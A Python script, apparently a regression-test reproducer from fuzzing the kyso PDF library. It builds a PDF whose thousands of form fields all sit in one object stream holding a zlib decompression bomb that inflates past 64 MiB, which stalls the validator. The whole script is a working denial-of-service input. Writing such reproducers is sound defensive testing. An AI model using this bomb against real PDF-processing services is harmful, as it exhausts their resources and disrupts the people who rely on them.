#!/usr/bin/env python3
"""A PDF whose AcroForm names thousands of fields, every one of them in one object stream
that inflates past kyso's 64 MiB limit for a decoded stream (a zlib "bomb" of ~65 KB).

Found by the `verify_pdf` fuzz target (2026-12-02): each reference into the stream inflated
it again, so a 1 MB file held a validation thread for minutes. Written with Python's zlib and
nothing of kyso's.

    objstm_bomb.py OUT.pdf [FIELDS]
"""
import sys
import zlib

out, fields = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 4000

# 65 MiB of zeros: one more MiB than a structural stream may decode to.
bomb = zlib.compressobj(9)
chunk = bytes(1 << 20)
body = b"".join(bomb.compress(chunk) for _ in range(65)) + bomb.flush()

first_field = 10
objs = {}
refs = " ".join(f"{first_field + i} 0 R" for i in range(fields))
objs[1] = f"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [{refs}] >> >>".encode()
objs[2] = b"<< /Type /Pages /Kids [] /Count 0 >>"
objs[3] = (
    b"<< /Type /ObjStm /N %d /First 8 /Filter /FlateDecode /Length %d >>\nstream\n"
    % (fields, len(body))
    + body
    + b"\nendstream"
)

pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
offsets = {}
for num in sorted(objs):
    offsets[num] = len(pdf)
    pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"

# A cross-reference stream (type 1: at an offset; type 2: in object stream 3).
xref_num = 4
offsets[xref_num] = len(pdf)
rows = bytearray()
size = first_field + fields
for num in range(size):
    if num in offsets:
        rows += bytes([1]) + offsets[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
    elif num >= first_field:
        rows += bytes([2]) + (3).to_bytes(4, "big") + (num - first_field).to_bytes(2, "big")
    else:
        rows += bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")
xref = zlib.compress(bytes(rows))
pdf += (
    b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
    % (xref_num, size, len(xref))
    + xref
    + b"\nendstream\nendobj\n"
)
pdf += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_num]
open(out, "wb").write(pdf)
